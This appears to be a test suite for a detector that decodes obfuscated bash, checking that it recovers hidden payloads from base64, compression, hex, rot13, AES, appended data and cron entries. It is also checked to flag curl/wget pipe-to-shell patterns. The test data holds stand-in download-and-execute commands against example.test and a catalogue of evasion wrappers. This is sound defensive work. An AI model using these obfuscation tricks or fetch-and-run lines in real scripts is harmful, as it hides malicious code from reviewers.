import { createCipheriv, createHash, pbkdf2Sync } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { Budget } from '../core/budget.js';
import type { DerivedText } from '../core/evaluation.js';
import { evaluateBash } from './bash.evaluator.js';

const payloads = (script: string): DerivedText[] => evaluateBash(script, new Budget()).derived.filter((item) => item.kind === 'payload');
const missing = (script: string): [string, string][] => evaluateBash(script, new Budget()).notDecoded.map((item) => [item.reason, item.detail]);
const base64 = (data: string | Uint8Array): string => Buffer.from(data).toString('base64');
const planted = 'wget -qO /tmp/p http://example.test/p';
const encoded = base64(planted);

describe('text handed to a shell', () => {
  it.each([
    ['bash -c', `bash -c '${planted}'`, planted, ['bash -c']],
    ['eval', `eval "${planted}"`, planted, ['eval']],
    ['eval of several words', `x=wget; eval $x '-qO /tmp/p' http://example.test/p`, planted, ['variables', 'eval']],
    ['a pipe', `echo ${encoded} | base64 -d | bash`, planted, ['base64', 'bash']],
    ['a pipe to sh -s', `echo ${encoded} | base64 --decode | sh -s -- a`, planted, ['base64', 'sh']],
    ['a here-string', `bash <<< "$(echo ${encoded} | base64 -di)"`, `${planted}\n`, ['base64', 'bash']],
    ['a here-document', `bash <<X\n${planted}\nX`, `${planted}\n`, ['bash']],
    ['a process substitution', `bash <(echo ${encoded} | base64 -d)`, planted, ['base64', 'bash']],
    ['source', `. <(echo ${encoded} | base64 -d)`, planted, ['base64', 'source']],
    ['gzip', `echo ${base64(gzipSync(planted))} | base64 -d | gunzip -c | bash`, planted, ['base64', 'gzip', 'bash']],
    ['xz', 'echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAkY3VybCAtcyBodHRwOi8vYS5leGFtcGxlLnRlc3QveCB8IHNoCgAAAADG6scyEJ35bwABPSXSKWoBH7bzfQEAAAAABFla | base64 -d | xz -dc | sh', 'curl -s http://a.example.test/x | sh\n', ['base64', 'xz', 'sh']],
    ['bzip2', 'echo QlpoOTFBWSZTWQgK/yEAAAdZgAAQQAOAECpGXkQgADFMmJkGRhQGTTag9I2uRCPsA+qofHA5YIYK9bSmPIvxdyRThQkAgK/yEA== | base64 -d | bunzip2 | sh', 'curl -s http://a.example.test/x | sh\n', ['base64', 'bzip2', 'sh']],
    ['gzip by variable', `d=${base64(gzipSync(planted))}; bash -c "$(base64 -d <<< $d | zcat)"`, planted, ['variables', 'base64', 'gzip', 'bash -c']],
    ['hexadecimal', `echo ${Buffer.from(planted).toString('hex')} | xxd -r -p | bash`, planted, ['hex', 'bash']],
    ['printf', `printf '${[...Buffer.from(planted)].map((byte) => `\\x${byte.toString(16)}`).join('')}' | sh`, planted, ['printf', 'sh']],
    ['octal quotes', `eval $'${[...Buffer.from(planted)].map((byte) => `\\${byte.toString(8)}`).join('')}'`, planted, ['ANSI-C quotes', 'eval']],
    ['reversed', `echo '${[...planted].reverse().join('')}' | rev | bash`, `${planted}\n`, ['rev', 'bash']],
    ['base32', 'echo NFSCALLV | base32 -d | bash', 'id -u', ['base32', 'bash']],
    ['rot13', `tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< 'vq -h' | bash`, 'id -u\n', ['tr', 'bash']],
    ['awk system', `awk 'BEGIN { system("id -u") }'`, 'id -u', ['awk', 'awk system']],
    ['prefixes', `sudo -u root env A=1 nohup timeout 5 busybox sh -c 'id -u'`, 'id -u', ['sh -c']],
    ['a path', `/usr/bin/env bash -c 'id -u'`, 'id -u', ['bash -c']],
    ['su', `su - root -c 'id -u'`, 'id -u', ['su -c']],
    ['find', `find / -name x -exec sh -c 'id -u' \\;`, 'id -u', ['sh -c']],
    ['xargs', `echo 'id -u' | xargs -I{} bash -c '{}'`, 'id -u', ['bash -c']],
    ['$0 as the shell', `$0 <<< 'id -u'`, 'id -u\n', ['bash']],
    ['a shell by its last parameter', `\${!#}<<<$'\\x69d'`, 'id\n', ['ANSI-C quotes', 'bash']],
    ['crontab', `(crontab -l; echo "* * * * * id -u") | crontab -`, 'id -u', ['crontab']],
    ['a cron file', `cat > /etc/cron.d/j <<'X'\n* * * * * root id -u\nX`, 'id -u', ['crontab']],
    ['a numbered descriptor', `exec 3<<< 'id -u'; bash <&3`, 'id -u\n', ['bash']],
    ['pieces in files, by pattern', `mkdir /tmp/q1; printf id > /tmp/q1/ab; printf ' -u' > /tmp/q1/cd; cat /tmp/q1/?? | sh`, 'id -u', ['sh']],
    ['a loop into a pipe', `a=(u i d ' ' -); for i in 1 2 3 4 0; do printf %s "\${a[i]}"; done | bash`, 'id -u', ['variables', 'bash']],
    ['a shell that is looked up', `$(command -v bash) -c 'id -u'`, 'id -u', ['bash -c']],
    ['a shell from outside', `echo ${encoded} | base64 -d | \${SHELL:-/bin/sh}`, planted, ['base64', 'bash']],
    ['braces as a pipeline', `{echo,${encoded}}|{base64,-d}|{bash,-i}`, planted, ['brace expansion', 'base64', 'bash']],
    ['trap', `trap 'id -u; exit' EXIT`, 'id -u; exit', ['trap']],
    ['python that prints', `python3 -c "import base64;print(base64.b64decode('${encoded}').decode())" | bash`, `${planted}\n`, ['python', 'bash']],
    ['perl that packs', `perl -e 'print pack("H*","6964202d75")' | sh`, 'id -u', ['perl', 'sh']],
  ])('%s', (_, script, text, rules) => {
    expect(payloads(script).find((item) => item.language === 'bash')).toMatchObject({ text, rules, language: 'bash' });
  });

  it.each([
    [`python3 -c 'import os; os.getcwd()'`, 'import os; os.getcwd()', 'python'],
    [`python3 <<X\nprint(1)\nX`, 'print(1)\n', 'python'],
    [`perl -e 'print 1'`, 'print 1', undefined],
    [`php -r 'echo 1;'`, 'echo 1;', undefined],
    [`node -e 'console.log(1)'`, 'console.log(1)', 'javascript'],
    [`pwsh -enc ${Buffer.from('whoami', 'utf16le').toString('base64')}`, 'whoami', 'powershell'],
  ])('other interpreters: %s', (script, text, language) => {
    const [item] = payloads(script);
    expect(item?.text).toBe(text);
    expect(item?.language).toBe(language);
  });

  it('keeps what eval set', () => {
    const { derived } = evaluateBash(`eval "$(echo ${base64('host=example.test; p=/a')} | base64 -d)"; curl http://$host$p`, new Budget());
    expect(derived[0]?.text).toBe('curl http://example.test/a');
  });

  it('gives arguments and exported names to the shell it starts', () => {
    const executed = (script: string): string | undefined => evaluateBash(script, new Budget()).derived.find((item) => item.kind === 'executed')?.text;
    expect(executed(`bash -c '"$0" $1 $#' id -u`)).toContain('\nid -u 1');
    expect(executed(`export X=id; bash -c '$X -u'`)).toContain('\nid -u');
    expect(payloads(`A=id; bash -c 'echo $A | sh'`).map((item) => item.text)).toEqual(['echo $A | sh']);
  });

  it('follows files that the script writes', () => {
    expect(payloads(`echo ${encoded} | base64 -d > /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh`)).toMatchObject([{ text: planted, rules: ['base64', 'file'], language: 'bash' }]);
    expect(payloads(`cat > x.py <<'X'\nprint(1)\nX\npython3 ./x.py`)).toMatchObject([{ text: 'print(1)\n', language: 'python' }]);
    expect(payloads(`cd /tmp; printf '#!/bin/sh\\nid -u\\n' > run; sh /tmp/run`)).toMatchObject([{ text: '#!/bin/sh\nid -u\n', language: 'bash' }]);
    expect(payloads(`printf '#!/usr/bin/python3\\nprint(1)\\n' > /opt/later`)).toMatchObject([{ text: '#!/usr/bin/python3\nprint(1)\n', rules: ['file /opt/later'], language: 'python' }]);
    expect(payloads('echo note > /tmp/notes.txt')).toEqual([]);
  });

  it('gives a program as bytes', () => {
    const elf = Buffer.from('7f454c4602010100000000000000000002003e000100000078004000fff1e200', 'hex');
    const [item] = payloads(`echo ${base64(elf)} | base64 -d > /tmp/e; chmod 755 /tmp/e; /tmp/e`);
    expect(item?.text).toBe('');
    expect(Buffer.from(item?.bytes ?? []).equals(elf)).toBe(true);
  });

  it('reads what stands behind the script', () => {
    expect(payloads(`tail -n +3 "$0" | base64 -d | bash\nexit 0\n${encoded}`)).toMatchObject([{ text: planted }]);
    expect(payloads(`sed '1,/^__DATA__$/d' "$0" | base64 -d | bash; exit\n__DATA__\n${encoded}\n`)).toMatchObject([{ text: planted }]);
  });

  it('opens AES with a key in the script', () => {
    const key = createHash('sha256').update('k').digest();
    const iv = Buffer.alloc(16, 7);
    const seal = (name: string, cipherKey: Uint8Array, cipherIv: Uint8Array): Buffer => {
      const cipher = createCipheriv(name, cipherKey, cipherIv);
      return Buffer.concat([cipher.update(planted), cipher.final()]);
    };
    const direct = base64(seal('aes-256-cbc', key, iv));
    expect(payloads(`echo ${direct} | openssl enc -aes-256-cbc -d -base64 -A -K ${key.toString('hex')} -iv ${iv.toString('hex')} | bash`)).toMatchObject([{ text: planted, rules: ['base64', 'aes-256-cbc', 'bash'] }]);
    const salt = Buffer.from('saltsalt');
    const derive = (algorithm: string): Buffer => {
      let out = Buffer.alloc(0);
      for (let block = Buffer.alloc(0); out.length < 48; out = Buffer.concat([out, block])) block = createHash(algorithm).update(Buffer.concat([block, Buffer.from('secret'), salt])).digest();
      return out;
    };
    const salted = (material: Buffer): string => base64(Buffer.concat([Buffer.from('Salted__'), salt, seal('aes-256-cbc', material.subarray(0, 32), material.subarray(32, 48))]));
    expect(payloads(`echo ${salted(derive('sha256'))} | openssl enc -d -aes-256-cbc -a -A -k secret | sh`)[0]?.text).toBe(planted);
    expect(payloads(`p=secret; echo ${salted(derive('md5'))} | base64 -d | openssl aes-256-cbc -d -md md5 -pass pass:$p | sh`)[0]?.text).toBe(planted);
    expect(payloads(`echo ${salted(pbkdf2Sync('secret', salt, 10_000, 48, 'sha256'))} | openssl enc -d -aes-256-cbc -pbkdf2 -a -A -pass pass:secret | sh`)[0]?.text).toBe(planted);
    expect(payloads(`echo ${base64(deflateSync(planted))} | openssl base64 -d -A | openssl zlib -d | sh`)[0]?.text).toBe(planted);
  });
});

describe('what stays closed', () => {
  it.each([
    ['curl http://example.test/a | bash', 'bash: http://example.test/a'],
    ['wget -qO- http://example.test/a | sudo sh', 'sh: http://example.test/a'],
    ['bash <(curl -fsSL http://example.test/a)', 'bash: http://example.test/a'],
    ['eval "$(curl http://example.test/a)"', 'eval: http://example.test/a'],
    ['x=$(wget -O - http://example.test/a); bash -c "$x"', 'bash -c: http://example.test/a'],
    ['h=example.test; curl http://$h/a | base64 -d | sh', 'sh: http://example.test/a'],
    ['curl -o /tmp/q http://example.test/a; sh /tmp/q', 'sh: http://example.test/a'],
    ['cd /tmp; wget http://example.test/q.sh && chmod +x q.sh && ./q.sh', 'file: http://example.test/q.sh'],
    ['source <(curl http://example.test/a)', 'source: http://example.test/a'],
    ['curl http://example.test/a | python3 -', 'python3: http://example.test/a'],
  ])('remote content: %s', (script, detail) => {
    expect(missing(script)).toContainEqual(['remoteContent', detail]);
  });

  it('says so of unknown keys, unknown values and formats', () => {
    expect(missing('echo U2FsdGVkX18AAAAAAAAAAA== | openssl enc -d -aes-256-cbc -a -k "$KEY" | sh')).toContainEqual(['unknownKey', 'aes-256-cbc: the key is not in the script']);
    expect(missing('eval "$CMD"')).toContainEqual(['unknownValue', 'eval: $CMD']);
    expect(missing('echo QlpoOTFBWSZTWQ== | base64 -d | bzip2 -dc | sh')).toContainEqual(['malformed', 'bzip2 that does not decode']);
    expect(missing('echo KLUv/SQA | base64 -d | zstd -d | sh')).toContainEqual(['unsupported', 'zstd is not decoded']);
  });

  it('points at the place', () => {
    const script = 'echo start\ncurl http://example.test/a | bash\n';
    const [item] = evaluateBash(script, new Budget()).notDecoded;
    expect(script.slice(item?.start, item?.end)).toContain('bash');
  });
});
